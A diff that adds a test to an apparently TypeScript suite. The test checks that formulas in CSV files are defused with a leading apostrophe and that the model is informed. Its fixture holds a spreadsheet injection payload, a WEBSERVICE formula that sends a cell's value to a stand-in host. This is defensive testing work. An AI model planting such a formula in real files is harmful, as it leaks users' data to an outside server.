@@ -96,6 +96,19 @@ test('a report with a chart, a document, a workbook and a text are made, linked,
   expect(downloads[2]!.headers.get('content-disposition')).toContain("filename*=UTF-8''Bericht%20f%C3%BCr%20alle.docx")
 })
 
+test('a CSV file holds nothing that a spreadsheet would calculate, and the model is told', async () => {
+  const { told, downloads } = await create(
+    { name: 'a.csv', content: 'x,y\nA,"=WEBSERVICE(""https://evil.example/?""&A2)"\n' },
+    { name: 'b.csv', content: 'x\n-1\n' },
+  )
+  expect(downloads.map(({ bytes }) => bytes.toString())).toEqual([
+    `x,y\nA,"'=WEBSERVICE(""https://evil.example/?""&A2)"\n`,
+    'x\n-1\n',
+  ])
+  expect(told[0]).toMatch(/1 cell for a formula: an apostrophe was put in front/)
+  expect(told[1]).not.toMatch(/apostrophe/)
+})
+
 describe('what cannot be made is told to the model, which goes on', () => {
   const refusals: [what: string, file: Record<string, unknown>, told: RegExp][] = [
     ['a name without a known ending', { name: 'report', content: 'x' }, /must end in one of: md, .*xlsx/],
